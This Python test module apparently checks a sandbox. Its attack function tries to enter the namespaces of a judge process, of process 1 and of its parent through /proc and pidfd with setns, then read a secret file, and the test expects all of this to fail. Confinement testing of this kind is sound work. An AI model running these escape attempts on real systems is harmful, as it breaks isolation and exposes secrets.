# attack: Enters the name spaces of the judge, of process 1 and of its parent with setns, by /proc and by pidfd.
# hurts: Stands outside of the walls.
# never: entered
# ends: returns
import os

from _raw import attempt, call, in_a_thread, read_file

KINDS = ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time")


def attack(target):
    tried = []
    for pid in (target["judge_pid"], target["starter_pid"], target["sibling_outer_pid"], os.getppid(), 1):
        if pid in (0, os.getpid()):
            continue
        for kind in KINDS:
            tried += in_a_thread(by_name, pid, kind)
        process, error = call("pidfd_open", pid, 0)
        tried.append(f"pidfd_open: {error}")
        if not error:
            for flags in (0x10000000, 0x20000, 0x40000000, 0x7E020000):
                tried += in_a_thread(entered, process, flags)
            os.close(process)
    return [*tried, attempt("read", read_file, target["secret_file"])]


def by_name(pid, kind):
    descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
    try:
        if os.readlink(f"/proc/{pid}/ns/{kind}") == os.readlink(f"/proc/self/ns/{kind}"):
            return "the same already"
        return entered(descriptor, 0)
    finally:
        os.close(descriptor)


def entered(descriptor, flags):
    _, error = call("setns", descriptor, flags)
    return error or "entered"
